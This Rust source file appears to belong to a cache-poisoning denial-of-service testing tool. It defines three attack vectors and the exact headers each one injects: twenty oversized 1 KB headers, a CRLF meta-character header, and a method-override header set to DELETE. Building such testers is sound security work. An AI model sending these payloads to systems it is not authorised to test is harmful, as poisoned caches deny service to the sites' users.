// File: attacks.rs
// SPDX-License-Identifier: MIT OR Apache-2.0

use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

/// Number of oversized headers injected by the HHO vector.
pub const OVERSIZE_HEADER_COUNT: usize = 20;
/// Value length of each oversized header. 20 x 1KB comfortably exceeds the
/// header-size limit of most caches and origins.
pub const OVERSIZE_HEADER_BYTES: usize = 1024;

/// The CPDoS attack catalog. Each variant maps to a fixed header mutation;
/// new vectors are added here, never by branching in the protocol.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AttackKind {
    /// HTTP Header Oversize
    Hho,
    /// HTTP Meta Character
    Hmc,
    /// HTTP Method Override
    Hmo,
}

impl AttackKind {
    pub const ALL: [AttackKind; 3] = [AttackKind::Hho, AttackKind::Hmc, AttackKind::Hmo];

    pub fn id(&self) -> &'static str {
        match self {
            AttackKind::Hho => "HHO",
            AttackKind::Hmc => "HMC",
            AttackKind::Hmo => "HMO",
        }
    }

    pub fn label(&self) -> &'static str {
        match self {
            AttackKind::Hho => "HTTP Header Oversize",
            AttackKind::Hmc => "HTTP Meta Character",
            AttackKind::Hmo => "HTTP Method Override",
        }
    }

    /// The header mutation this vector injects into the attack request.
    pub fn headers(&self) -> Vec<(String, String)> {
        match self {
            AttackKind::Hho => (0..OVERSIZE_HEADER_COUNT)
                .map(|i| {
                    (
                        format!("X-Oversized-{}", i),
                        "A".repeat(OVERSIZE_HEADER_BYTES),
                    )
                })
                .collect(),
            AttackKind::Hmc => vec![("X-Meta-Char".to_string(), "Test\r\nInjected".to_string())],
            AttackKind::Hmo => vec![(
                "X-HTTP-Method-Override".to_string(),
                "DELETE".to_string(),
            )],
        }
    }
}

impl fmt::Display for AttackKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.id())
    }
}

impl FromStr for AttackKind {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_uppercase().as_str() {
            "HHO" => Ok(AttackKind::Hho),
            "HMC" => Ok(AttackKind::Hmc),
            "HMO" => Ok(AttackKind::Hmo),
            other => Err(format!(
                "invalid attack type: {}. Choose from: HHO, HMC, HMO, or ALL",
                other
            )),
        }
    }
}

/// Expands the CLI attack selector into concrete catalog entries.
pub fn resolve_selector(selector: &str) -> Result<Vec<AttackKind>, String> {
    if selector.eq_ignore_ascii_case("ALL") {
        Ok(AttackKind::ALL.to_vec())
    } else {
        Ok(vec![selector.parse()?])
    }
}
